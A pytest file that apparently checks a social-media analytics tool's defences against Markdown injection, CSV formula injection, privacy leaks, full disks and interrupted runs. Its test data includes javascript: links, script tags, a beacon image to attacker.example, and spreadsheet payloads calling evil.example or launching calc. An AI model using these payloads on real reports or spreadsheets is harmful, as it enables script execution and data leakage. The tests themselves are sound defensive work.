"""Hostile text, faults and privacy (issue 17): nothing injected, nothing leaked, no half-written runs.

Each failure the issue lists is a test here: Markdown injection through `scrm run`, one
pseudonymisation, free text never treated as a path, a full disk, SIGTERM, cell timeouts,
validation before a run folder exists. The real-data privacy check lives with the real-data
runs in ``test_notebook_variants.py`` (it greps their reports).
"""

from __future__ import annotations

import errno
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pandas as pd
import pytest
import yaml
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from scrm_lib import cli
from scrm_lib import metrics as L
from scrm_lib.core.config import PROJECT_ROOT
from scrm_lib.core.errors import ParamsError, RunError
from scrm_lib.params import input_path_fields, load_params
from scrm_lib.reports.nbtools import Md, md_escape, md_inline, md_text
from scrm_lib.run import execute
from scrm_lib.run.errors import PAPERMILL_ERROR_TAG
from scrm_lib.run.execute import run_jobs
from scrm_lib.run.manifest import input_files
from scrm_lib.run.planning import Job, RunRequest, plan
from scrm_lib.run.sanitize import neutralise_urls, unsafe_urls
from scrm_lib.run.signals import Terminated, stop_signals_interrupt

LINK = "[clickme](javascript:alert('x'))"
BEACON = "![p](https://attacker.example/p.png?leak=1)"
HOSTILE = [LINK, BEACON, "<script>alert(1)</script>", "# Heading\n\n- item", "`code` | a | b |",
           "<https://attacker.example>", "[ref]: javascript:alert(1)", "**bold** _it_", "a\\[b\\](c)"]


def scrm(*args: str, cwd: Path = PROJECT_ROOT, timeout: int = 600) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    return subprocess.run([sys.executable, "-m", "scrm_lib.cli", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=timeout, env=env, check=False)


# --------------------------------------------------------------------------- 1. Markdown injection
@pytest.mark.parametrize("payload", HOSTILE)
def test_md_text_renders_user_text_as_plain_text(payload: str) -> None:
    out = md_text("Brand **{b}** in `{p}`.", b=payload, p=payload)
    page = markdown2html_mistune(out)
    assert "<a " not in page and "<img" not in page and "<script" not in page and "<h1" not in page
    assert "<li>" not in page and "<table" not in page and "<em>" not in page.split("<code>")[0].replace("<strong>", "")
    assert page.count("<strong>") == 1 and page.count("<code>") == 1  # the template's own markup stays


@pytest.mark.parametrize("payload", HOSTILE)
def test_md_inline_keeps_emphasis_but_no_structure(payload: str) -> None:
    page = markdown2html_mistune(md_inline(f"**Share of voice:** {payload} holds 40% (rank 1)."))
    assert "<strong>Share of voice:</strong>" in page and "(rank 1)." in page
    for tag in ("<img", "<script", "<h1", "<li>", "<table", "<code>", "<blockquote"):
        assert tag not in page, (tag, page)
    assert "javascript:" not in "".join(re.findall(r'href="([^"]*)"', page))
    assert not re.findall(r'<a href="(?!https?://)', page)


def test_md_escape_md_inline_and_composition() -> None:
    assert md_escape("a\nb") == "a b"  # a value cannot start a new block
    assert isinstance(md_text("{x}", x="y"), Md)
    inner = md_text("**{b}**", b=LINK)
    assert md_text("Top: {s}", s=inner) == f"Top: {inner}"  # not escaped twice
    kept = markdown2html_mistune(md_inline(f"**Share of voice:** {LINK} holds 40%"))
    assert "<strong>Share of voice:</strong>" in kept and "<a " not in kept
    assert md_text("{n:,} {d:%Y}", n=1234, d=pd.Timestamp("2024-01-02")) == "1,234 2024"


def test_report_sanitiser_removes_script_urls_and_remote_images() -> None:
    page = ('<a href="javascript:alert(1)">x</a><a href=" JaVa&#x09;script:x">y</a><img src="https://a.example/p.png">'
            '<img src="data:image/png;base64,AA"><a href="https://ok.example/">ok</a>')
    assert len(unsafe_urls(page)) == 3
    clean = neutralise_urls(page)
    assert unsafe_urls(clean) == []
    assert 'src="data:image/png;base64,AA"' in clean and 'href="https://ok.example/"' in clean


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Notebooks 01 and 07 through `scrm run` on the sample with two brands renamed to hostile
    Markdown, the focal/audited brand being the javascript: link."""
    tmp = tmp_path_factory.mktemp("hostile")
    df = pd.read_csv(PROJECT_ROOT / "data/samples/mentions.csv", dtype=str, keep_default_na=False)
    df["brand"] = df["brand"].replace({"Nimbus": LINK, "Kestrel": BEACON})
    df["text"] = df["text"].str.replace("Nimbus", LINK, regex=False).str.replace("Kestrel", BEACON, regex=False)
    df.to_csv(tmp / "mentions.csv", index=False)
    (tmp / "p01.yaml").write_text(yaml.safe_dump({
        "notebook": "01_listening_analysis", "mentions_path": str(tmp / "mentions.csv"), "focal_brand": LINK,
        "events_path": None, "data_note": BEACON, "show_exercises": False}), encoding="utf-8")
    (tmp / "p07.yaml").write_text(yaml.safe_dump({
        "notebook": "07_social_media_audit", "mentions_path": str(tmp / "mentions.csv"), "brand": LINK,
        "competitors": [BEACON, "Voltra", "Halcyon"], "data_note": BEACON, "show_exercises": False}),
        encoding="utf-8")
    proc = scrm("run", "--params", str(tmp / "p01.yaml"), "--params", str(tmp / "p07.yaml"), "--out", str(tmp / "runs"))
    assert proc.returncode == 0, proc.stderr[-3000:]
    return tmp / "runs" / "latest"


@pytest.mark.notebook
def test_hostile_brand_names_stay_text_in_every_report(hostile_run: Path) -> None:
    pages = sorted(hostile_run.glob("*.html"))
    assert len(pages) == 3
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert unsafe_urls(text) == [], page.name
        assert not re.search(r"""href\s*=\s*["']?\s*javascript""", text, re.IGNORECASE), page.name
        assert not [u for u in re.findall(r"""src\s*=\s*["']([^"']*)""", text) if "attacker" in u], page.name
        assert "data-scrm-removed" not in text, f"{page.name}: md_text let a link through (caught by the sanitiser)"
    report01 = (hostile_run / "01_listening_analysis--p01.html").read_text(encoding="utf-8")
    assert "[clickme](javascript:alert(&#x27;x&#x27;))" in report01 or "[clickme](javascript:alert('x'))" in report01


# --------------------------------------------------------------------------- 2. privacy
def _posts() -> pd.DataFrame:
    return pd.DataFrame({
        "post_id": ["570306133677760513", "570306133677760514", "570306133677760515", "570306133677760516"],
        "author_id": ["bob.smith.1990", "UnitedAppeals", "united", "usairwayssuck"],
        "brand": ["United", "United", "United", "US Airways"],
        "text": ["@united lost my bag, cc @bob.smith.1990.", "@UnitedAppeals @unitedflyerhd mail me: bob@x.example",
                 "@bob.smith.1990 sorry, DM us", "@USAirways @usairwayssuck"],
        "in_reply_to": [None, None, "570306133677760513", None],
        "is_brand": [False, False, True, False],
        "name": ["bob", "appeals", "united", "x"],
    })


def test_one_pseudonymisation_brands_by_flag_or_list_never_by_substring() -> None:
    df = _posts()
    out = L.pseudonymise(df, "salt", keep=["USAirways"])
    shown = out.to_csv()
    for raw in ("bob.smith", "UnitedAppeals", "unitedflyerhd", "usairwayssuck", "570306133677760513", "bob@x", ".1990"):
        assert raw.lower() not in shown.lower(), raw
    assert "@united " in out["text"].iloc[0] and "@USAirways" in out["text"].iloc[3]  # is_brand author, explicit list
    bob = L.pseudonym("bob.smith.1990", "salt")
    assert out["author_id"].iloc[0] == bob and out["text"].iloc[2] == f"@{bob} sorry, DM us"  # dotted handle whole
    assert out["text"].iloc[0].endswith(f"@{bob}.")  # the sentence's full stop is not part of the handle
    assert out["in_reply_to"].iloc[2] == out["post_id"].iloc[0] and out["post_id"].iloc[0].startswith("p_")
    assert "name" not in out.columns
    # the audit notebook calls the same function (no copy in the audit module)
    from scrm_lib.metrics import audit

    assert not hasattr(audit, "pseudonymise")
    with pytest.raises(ValueError, match="salt"):
        L.pseudonymise(df, "")


# --------------------------------------------------------------------------- 3. free text is not a path
@pytest.mark.parametrize("note", ["/proc/self", "/usr/lib", "/etc/passwd", "data/samples/mentions.csv"])
def test_only_input_path_parameters_are_hashed(note: str) -> None:
    params = load_params("00_quickstart", overrides={"data_note": note})
    assert [f["param"] for f in input_files(params)] == ["mentions_path"]
    assert input_path_fields(type(load_params("07_social_media_audit"))) == [
        "mentions_path", "thresholds_path", "sentiment_model", "trait_model"]


def test_inputs_over_the_size_cap_are_listed_not_hashed(monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("SCRM_MAX_HASH_BYTES", "10")
    [entry] = input_files(load_params("00_quickstart"))
    assert entry["sha256"] is None and "not hashed" in entry["note"]
    assert "larger than 10 bytes" in capsys.readouterr().err


# --------------------------------------------------------------------------- 4. full disk
def _enospc(*args: object, **kwargs: object) -> None:
    raise OSError(errno.ENOSPC, "No space left on device")


def test_full_disk_while_executing_leaves_no_invalid_notebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    jobs = plan([RunRequest("01"), RunRequest("00")])

    def truncated(job: Job, output: Path, *args: object, **kwargs: object) -> None:
        output.write_text('{"cells": [', encoding="utf-8")  # papermill's half-written save
        _enospc()

    monkeypatch.setattr(execute, "execute_job", truncated)
    summary = run_jobs(jobs, out_root=tmp_path, progress=False)
    run = summary.run_dir
    assert [r.status for r in summary.results] == ["failed", "failed"]  # notebook 00 still ran
    assert summary.results[0].error["evalue"] == "No space left on device"
    assert not list(run.glob("*.ipynb")) and not list(run.glob(".*"))  # nothing invalid, no temporary files
    m = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    assert m["status"] == "failed" and m["finished_at"]


def test_full_disk_for_the_manifest_is_reported_and_leaves_no_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    jobs = plan([RunRequest("00")])
    monkeypatch.setattr(execute, "execute_job", lambda *a, **k: None)
    real_replace = os.replace

    def full(src: object, dst: object) -> None:
        if str(dst).endswith("manifest.json") and "manifest" in str(src):
            _enospc()
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", full)
    summary = run_jobs(jobs, out_root=tmp_path, progress=False)
    assert not summary.ok and "No space left on device" in summary.write_errors[0]
    assert not list(summary.run_dir.glob(".*.tmp")) and not (summary.run_dir / "manifest.json").exists()
    assert "warning: cannot write" in capsys.readouterr().err


@pytest.mark.parametrize("target", ["file", "/proc"])
def test_out_that_is_a_file_or_unwritable_is_a_message(tmp_path: Path, target: str) -> None:
    out = tmp_path / "f.txt" if target == "file" else Path("/proc")
    if target == "file":
        out.write_text("x", encoding="utf-8")
    with pytest.raises(RunError, match="--out"):
        run_jobs(plan([RunRequest("00")]), out_root=out, progress=False)


# --------------------------------------------------------------------------- 7. timeouts, 8. SIGTERM
@pytest.mark.notebook
def test_cell_timeout_names_the_cell_and_leaves_the_banner(tmp_path: Path) -> None:
    nb = nbformat.read(PROJECT_ROOT / "notebooks/00_quickstart.ipynb", as_version=4)
    nb.cells.insert(3, nbformat.v4.new_code_cell("import time\ntime.sleep(30)"))
    path = tmp_path / "00_quickstart.ipynb"
    nbformat.write(nb, path)
    summary = run_jobs(plan([RunRequest(str(path))]), out_root=tmp_path / "runs",
                              cell_timeout=3, progress=False)
    err = summary.results[0].error
    assert err["cell"] is not None and err["ename"] == "CellTimeoutError", err
    assert "before any cell ran" not in summary.results[0].describe_failure()
    executed = nbformat.read(summary.run_dir / summary.results[0].output, as_version=4)
    assert PAPERMILL_ERROR_TAG in executed.cells[0].metadata.get("tags", [])
    assert any(o.get("output_type") == "error" for c in executed.cells for o in c.get("outputs", []))


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP])
def test_sigterm_and_sighup_are_handled_like_ctrl_c(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     signum: int) -> None:
    jobs = plan([RunRequest("00"), RunRequest("03")])

    def stopped(job: Job, output: Path, *args: object, **kwargs: object) -> None:
        output.write_text("{", encoding="utf-8")
        os.kill(os.getpid(), signum)
        time.sleep(5)

    monkeypatch.setattr(execute, "execute_job", stopped)
    with pytest.raises(Terminated):
        run_jobs(jobs, out_root=tmp_path, progress=False)
    m = json.loads((tmp_path / "latest" / "manifest.json").read_text(encoding="utf-8"))
    assert m["status"] == "interrupted" and [n["status"] for n in m["notebooks"]] == ["interrupted"] * 2
    assert not [p for p in (tmp_path / "latest").iterdir() if p.name.startswith(".")]  # no temporary files
    assert signal.getsignal(signum) is not None and signal.getsignal(signum) != stop_signals_interrupt


# --------------------------------------------------------------------------- 6. validation before running
@pytest.mark.parametrize(("override", "match"), [
    ({"mentions_path": "data/samples"}, "is a folder"),
    ({"sentiment_model": "models/nope.skops"}, "file not found"),
    ({"as_of": "2024-02-30"}, "not a real date"),
    ({"as_of": "0001-01-01"}, "outside the range"),
])
def test_bad_parameters_fail_before_anything_runs(override: dict[str, str], match: str) -> None:
    with pytest.raises(ParamsError, match=match):
        load_params("07_social_media_audit", overrides=override)


# --------------------------------------------------------------------------- 5. messages, not tracebacks
def test_impossible_unquoted_date_in_yaml_names_line_and_column(tmp_path: Path) -> None:
    f = tmp_path / "p.yaml"
    f.write_text('notebook: "07"\nas_of: 2024-02-30\n', encoding="utf-8")
    with pytest.raises(ParamsError, match=r"line 2, column 8: .*2024-02-30.* not a real date"):
        plan([RunRequest(params_file=str(f))])


@pytest.mark.parametrize("value", ['"07"', "07", "07_social", "audit"])
def test_notebook_key_accepts_prefixes_as_the_readme_says(tmp_path: Path, value: str) -> None:
    f = tmp_path / "p.yaml"
    f.write_text(f"notebook: {value}\n", encoding="utf-8")
    assert plan([RunRequest(params_file=str(f))])[0].stem == "07_social_media_audit"
    assert plan([RunRequest(name="07", params_file=str(f))])[0].stem == "07_social_media_audit"


@pytest.mark.parametrize("year", ["0001", "1677", "2263"])
def test_out_of_range_years_name_line_and_column(tmp_path: Path, year: str,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    lines = (PROJECT_ROOT / "data/samples/mentions.csv").read_text(encoding="utf-8").splitlines()[:4]
    lines[2] = lines[2].replace("2026-03-02", f"{year}-03-02", 1)
    f = tmp_path / "m.csv"
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert cli.main(["validate", "mentions", str(f)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "report it" not in err
    assert "line 3, column 'created_at': timestamp outside" in err


@pytest.mark.parametrize(("mapping", "match"), [
    ("timezone: Mars/Olympus\n", "timezone: unknown time zone 'Mars/Olympus'"),
    ("constants:\n  created_at: 2024-02-30\n", "line 2, column 15: '2024-02-30' is not a real date"),
])
def test_bad_mapping_file_is_blamed_not_the_data(tmp_path: Path, mapping: str, match: str) -> None:
    from scrm_lib.core.errors import DataValidationError
    from scrm_lib.data import load_mapping

    f = tmp_path / "map.yaml"
    f.write_text(mapping, encoding="utf-8")
    with pytest.raises(DataValidationError, match=re.escape(match)) as err:
        load_mapping(f)
    assert err.value.kind == "column mapping"


# --------------------------------------------------------------------------- 10. spreadsheet exports
def test_score_csv_neutralises_formulas_refuses_xlsx(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from scrm_lib.modeling.stream import ChunkWriter, neutralise_formulas

    df = pd.DataFrame({"text": ['=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1", "@a", "-2 stars",
                                "\tx", "fine"], "score": [-0.5, 0.1, -1.0, 0.0, 0.2, 0.3, 0.4]})
    out = neutralise_formulas(df)
    assert out["text"].tolist()[:6] == ["'" + t for t in df["text"].tolist()[:6]] and out["text"].iloc[6] == "fine"
    assert out["score"].tolist() == df["score"].tolist()  # numbers stay numbers
    with ChunkWriter(tmp_path / "o.csv") as w:
        w.write(df)
    back = pd.read_csv(tmp_path / "o.csv")
    assert not back["text"].str.match(r"[=+\-@]").any()
    with ChunkWriter(tmp_path / "o.jsonl") as w:  # not for spreadsheets: the text is kept
        w.write(df)
    assert pd.read_json(tmp_path / "o.jsonl", lines=True)["text"].iloc[0].startswith("=HYPERLINK")
    assert cli.main(["score", "data/samples/mentions.csv", "--out", str(tmp_path / "x.xlsx"), "--no-progress"]) == 2
    assert "cannot write .xlsx" in capsys.readouterr().err and not (tmp_path / "x.xlsx").exists()


def test_score_sighup_leaves_no_hidden_tmp(tmp_path: Path) -> None:
    # 200k rows (about 25 s of VADER): the signal always arrives while the scorer is still writing
    big = tmp_path / "big.csv"
    src = (PROJECT_ROOT / "data/samples/mentions.csv").read_text(encoding="utf-8").splitlines()
    big.write_text("\n".join([src[0], *src[1:] * 10]) + "\n", encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "scrm_lib.cli", "score", str(big), "--model", "vader",
                             "--trait-model", "none", "--out", str(tmp_path / "o.csv"), "--chunk-rows", "500",
                             "--no-progress"], cwd=PROJECT_ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.time() + 60
    while time.time() < deadline and not list(tmp_path.glob(".o.csv.tmp*")):
        time.sleep(0.05)
    assert list(tmp_path.glob(".o.csv.tmp*")), "the scorer never started writing"
    proc.send_signal(signal.SIGHUP)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + signal.SIGHUP and b"stopped by SIGHUP" in err
    assert [p.name for p in tmp_path.iterdir()] == ["big.csv"]


# --------------------------------------------------------------------------- 6. checked against the data
@pytest.mark.parametrize(("stem", "override", "match"), [
    ("01", {"focal_brand": "Nimbuss"}, "focal_brand: 'Nimbuss' is not a brand in data/samples/mentions.csv .*did you mean 'Nimbus'"),
    ("01", {"competitors": ["Kestrl"]}, "competitors: 'Kestrl' is not a brand"),
    ("07", {"brand": "nimbus"}, "brand: 'nimbus' is not a brand"),
    ("01", {"date_from": "2030-01-01", "date_to": "2030-02-01"}, "does not overlap the data"),
    ("01", {"spike_window": 10**23}, "too large"),
    ("01", {"spike_sensitivity": float("inf")}, "finite"),
])
def test_parameters_are_checked_against_the_data_before_a_run(stem: str, override: dict, match: str,
                                                              tmp_path: Path) -> None:
    with pytest.raises(ParamsError, match=match):
        run_jobs(plan([RunRequest(stem, overrides=override)]), out_root=tmp_path)
    assert not list(tmp_path.iterdir())  # no run folder


def test_unreadable_mentions_file_is_reported_before_a_run(tmp_path: Path) -> None:
    bad = tmp_path / "m.csv"
    bad.write_bytes(b"post_id,created_at\n\x00\x01\x02 binary")
    with pytest.raises(ParamsError, match="mentions_path: .*m.csv"):
        plan([RunRequest("01", overrides={"mentions_path": str(bad)})])


# --------------------------------------------------------------------------- 9. pathological date ranges
def _outlying(tmp_path: Path) -> Path:
    df = pd.read_csv(PROJECT_ROOT / "data/samples/mentions.csv", dtype=str, keep_default_na=False).head(2000)
    df.loc[:2, "created_at"] = "1900-01-01T00:00:00Z"
    df.loc[3:5, "created_at"] = "2099-12-31T00:00:00Z"
    path = tmp_path / "m.csv"
    df.to_csv(path, index=False)
    return path


def test_outlying_timestamps_warn_and_periods_are_capped(tmp_path: Path) -> None:
    from scrm_lib.data import load_mentions

    df = load_mentions(_outlying(tmp_path))
    with pytest.warns(UserWarning, match=r"6 post\(s\) dated far outside the rest \(1900-01-01 to 2099-12-31"):
        kept = L.window(df)
    assert len(kept) == len(df)  # warned, not dropped
    t0 = time.perf_counter()
    with pytest.raises(L.PeriodLimitError, match=r"1,753,\d+ hours .* Set date_from/date_to"):
        L.volume(df, freq="h", by="brand")
    assert time.perf_counter() - t0 < 2  # fails at once instead of building 7 million rows
    assert len(L.volume(L.window(df, "2026-03-01", "2026-03-31"), freq="h", by="brand"))


def test_pathological_range_is_refused_before_a_run(tmp_path: Path) -> None:
    path = _outlying(tmp_path)
    with pytest.raises(ParamsError, match=r"period 'h': .* 6 post\(s\) are dated far from the rest"):
        plan([RunRequest("01", overrides={"mentions_path": str(path), "period": "h", "events_path": None})])
    plan([RunRequest("01", overrides={"mentions_path": str(path), "period": "h", "events_path": None,
                                                    "date_from": "2026-03-01", "date_to": "2026-04-30"})])


def test_score_refuses_a_model_without_predict_proba(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.pipeline import make_pipeline
    from sklearn.svm import LinearSVC

    from scrm_lib.modeling.persist import save_model

    model = make_pipeline(TfidfVectorizer(), LinearSVC()).fit(["good", "bad", "ok", "awful"], ["positive", "negative"] * 2)
    try:
        save_model(model, tmp_path / "svc.skops", {"name": "svc"})
    except Exception as exc:  # noqa: BLE001 - the models' own saving rules (issue 11/12)
        pytest.skip(f"cannot save a LinearSVC model here: {exc}")
    assert cli.main(["score", "data/samples/mentions.csv", "--model", str(tmp_path / "svc.skops"),
                     "--trait-model", "none", "--out", str(tmp_path / "o.csv"), "--no-progress"]) == 2
    assert "has no predict_proba" in capsys.readouterr().err and not (tmp_path / "o.csv").exists()
    # a notebook parameter naming it fails at validation, before any run folder exists
    with pytest.raises(ParamsError, match="sentiment_model: model .*LinearSVC|sentiment_model: model .*Pipeline"):
        load_params("07_social_media_audit", overrides={"sentiment_model": str(tmp_path / "svc.skops")})


def test_an_airline_file_is_checked_by_the_columns_its_adapter_names(tmp_path: Path) -> None:
    from scrm_lib.data.registry import adapters

    raw = tmp_path / "Tweets.csv"
    raw.write_text("tweet_id,airline,tweet_created,text\n"
                   "1,United,2015-02-24 11:35:52 -0800,@united late again\n", encoding="utf-8")
    with pytest.raises(ParamsError, match="focal_brand: 'Unitd' is not a brand .*did you mean 'United'"):
        plan([RunRequest("01", overrides={"mentions_path": str(raw), "mentions_format": "airline",
                                          "focal_brand": "Unitd", "competitors": []})])
    for adapter in adapters("mentions"):  # a pair of raw column names, or None (brands derived)
        cols = adapter.brand_time_columns
        assert cols is None or (len(cols) == 2 and all(isinstance(c, str) and c for c in cols)), adapter.name
